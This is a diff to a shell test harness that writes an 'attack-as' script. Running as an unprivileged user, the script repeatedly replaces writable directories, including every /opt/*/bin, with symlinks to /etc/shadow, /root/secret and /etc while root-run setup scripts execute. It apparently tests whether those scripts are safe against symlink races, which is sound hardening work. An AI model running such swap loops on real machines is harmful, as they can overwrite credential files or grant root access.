@@ -82,7 +82,7 @@ cat >/usr/local/sbin/attack-as <<'USER'
 shopt -s nullglob
 targets=(/root/secret /etc/shadow)
 round=0
-: >"/tmp/swaps.$1"
+echo 0 >"/tmp/swaps.$1"
 mapfile -t directories < <(find /opt /var/lib/fluent-bit /var/log/kube-apiserver /var/lib/kubelet /var/log/pods /home /run /etc \\
   -type d -writable 2>/dev/null)
 while [[ ! -e /stop ]]; do
@@ -101,7 +101,9 @@ while [[ ! -e /stop ]]; do
   # What is not in a folder of its own may still be replaced where the folder above can be written.
   mv /opt/zot/etc /opt/zot/etc.old
   ln -s /etc /opt/zot/etc
-  ln -s /etc/shadow /opt/zot/bin/run-zot.sh
+  for directory in /opt/*/bin; do
+    mv "$directory" "$directory.old" && mkdir "$directory" && ln -s /etc/shadow "$directory/run-$(basename "$(dirname "$directory")").sh"
+  done
   ln -s /etc/shadow /run/podplane/configuration.lock
   echo "$round" >"/tmp/swaps.$1"
   sleep 0.01
@@ -114,6 +116,8 @@ for user in $users; do
   for script in "permissions.sh knc" configure.sh nstance-recv-watch.sh restart.sh; do
     $bin/$script || true
   done
+  # Each has its turn, however slow the machine is.
+  until (($(cat "/tmp/swaps.$user" 2>/dev/null || echo 0) >= 3)); do sleep 0.1; done
   touch /stop
   wait $!
 done
